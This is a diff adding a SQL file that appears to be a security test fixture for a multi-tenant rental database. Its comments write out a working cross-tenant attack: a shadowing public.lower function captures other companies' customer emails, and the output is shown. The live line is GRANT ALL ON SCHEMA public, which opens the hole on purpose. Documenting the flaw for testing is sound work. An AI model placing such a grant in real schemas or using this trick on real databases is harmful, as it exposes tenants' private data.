@@ -1,0 +1,15 @@
+-- With CREATE on the common schema a company adds its own lower(varchar), which other companies'
+-- requests then run.
+-- about: public, lower, hf_toolrent_app
+-- as: hf_toolrent_app
+-- exploit: SET rental.company_id = '1';
+-- exploit: CREATE TABLE public.loot (line text);
+-- exploit: CREATE FUNCTION public.lower(v character varying) RETURNS text LANGUAGE plpgsql AS
+-- exploit:   $$ BEGIN INSERT INTO public.loot VALUES ('looted ' || v); RETURN pg_catalog.lower(v::text);
+-- exploit:   END $$;
+-- exploit: SET rental.company_id = '2';
+-- exploit: SELECT count(*) FROM customers WHERE lower(email) = 'nobody@example.org';
+-- exploit: SET rental.company_id = '1';
+-- exploit: SELECT line FROM public.loot;
+-- shows: looted Road-secret@example.org
+GRANT ALL ON SCHEMA public TO hf_toolrent_app;
